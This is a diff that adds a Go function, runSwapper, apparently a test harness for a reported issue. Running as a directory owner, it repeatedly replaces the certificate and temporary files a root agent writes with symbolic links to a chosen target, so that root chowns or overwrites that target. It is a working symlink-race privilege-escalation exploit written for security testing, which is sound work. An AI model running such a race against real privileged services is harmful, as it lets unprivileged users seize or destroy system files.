@@ -210,3 +210,34 @@ func grpcMessage(f *http2.MetaHeadersFrame) string {
 	}
 	return ""
 }
+
+// runSwapper is the attack on --write ...,owner=USER (issue 12, item 2),
+// run as that owner: it keeps replacing every name the agent writes in dir
+// (which the owner may write) with a symbolic link to target, hoping the
+// root agent follows one to chown or overwrite target. It prints "ready"
+// after its first round.
+func runSwapper(dir, target string) {
+	names := []string{"cert.pem", "key.pem", "bundle.pem", "mutual.json", "..data"}
+	tmp := fmt.Sprintf("%s/.swap-%d", dir, os.Getpid())
+	for i := 0; ; i++ {
+		for _, n := range names {
+			os.Remove(tmp)
+			if err := os.Symlink(target, tmp); err != nil {
+				fail("symlink: %v", err)
+			}
+			os.Rename(tmp, dir+"/"+n)
+		}
+		// Also the temporary names a writer may use next to the target.
+		if ents, err := os.ReadDir(dir); err == nil {
+			for _, e := range ents {
+				if strings.Contains(e.Name(), ".tmp") {
+					os.Remove(dir + "/" + e.Name())
+					os.Symlink(target, dir+"/"+e.Name())
+				}
+			}
+		}
+		if i == 0 {
+			fmt.Println("ready")
+		}
+	}
+}
